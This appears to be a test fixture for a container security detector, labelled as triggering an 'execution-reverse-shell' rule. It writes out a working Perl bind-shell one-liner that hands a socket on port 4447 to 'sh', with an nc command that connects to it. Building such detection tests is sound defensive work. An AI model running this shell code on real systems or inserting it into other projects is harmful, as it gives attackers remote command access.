# in: container
# fires: execution-reverse-shell
# A shell that waits at a port.
(sleep 0.5; echo true | nc 127.0.0.1 4447) &
perl -e 'socket(S, 2, 1, 6); bind(S, pack("S n C4 x8", 2, 4447, 127, 0, 0, 1)) or die $!; listen(S, 1);
  accept(C, S) or die $!; syscall(33, fileno(C), $_) for 0 .. 1; exec "sh"'
